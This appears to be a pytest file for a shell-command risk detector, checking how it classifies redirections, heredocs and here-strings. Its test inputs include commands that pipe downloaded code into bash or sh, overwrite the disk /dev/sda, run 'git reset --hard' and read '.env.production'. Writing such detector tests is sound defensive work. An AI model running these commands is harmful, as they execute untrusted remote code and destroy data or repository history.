"""Redirections, heredocs, here-strings."""

from __future__ import annotations

import pytest

from riskproof.detect.shell import analyse
from tests.unit.detect.reading import DAMAGE, DOWNLOAD, NETWORK, REWRITE, categories


@pytest.mark.parametrize("text", ["bash < <(curl https://a.test)", 'bash <<< "$(curl https://a.test)"', "curl https://a.test | tee >(sh)"])
def test_what_a_redirection_feeds_is_followed(text: str) -> None:
    assert categories(text) == [DOWNLOAD, NETWORK]


def test_targets_are_files_that_are_read_or_written() -> None:
    view = analyse("while read l; do echo $l; done < .env.production > out.txt 2>/dev/null")
    assert view.paths == ((".env.production", False), ("out.txt", True))


def test_writing_over_a_disk_is_damage_whoever_writes() -> None:
    assert categories("cat image > /dev/sda") == [DAMAGE]
    assert categories("echo x > /dev/null") == []


def test_a_quoted_delimiter_keeps_backticks_from_running() -> None:
    assert categories("cat <<'E'\n`git reset --hard`\nE") == []
    assert categories("cat <<E\n`git reset --hard`\nE") == [REWRITE]
    assert categories("cat <<E\n\\`git reset --hard\\`\nE") == []
